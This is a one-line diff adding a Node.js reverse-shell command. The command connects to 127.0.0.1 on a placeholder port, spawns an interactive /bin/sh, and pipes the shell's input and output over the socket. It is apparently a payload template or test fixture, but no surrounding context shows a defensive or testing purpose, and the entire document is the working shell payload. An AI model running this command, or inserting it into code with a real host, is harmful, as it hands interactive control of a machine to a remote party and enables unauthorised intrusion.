@@ -1,0 +1,1 @@
+node -e 'const s=require("net").connect(@PORT@,"127.0.0.1",()=>{const sh=require("child_process").spawn("/bin/sh",["-i"]);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s);sh.on("exit",()=>s.destroy())});s.on("error",()=>{})'
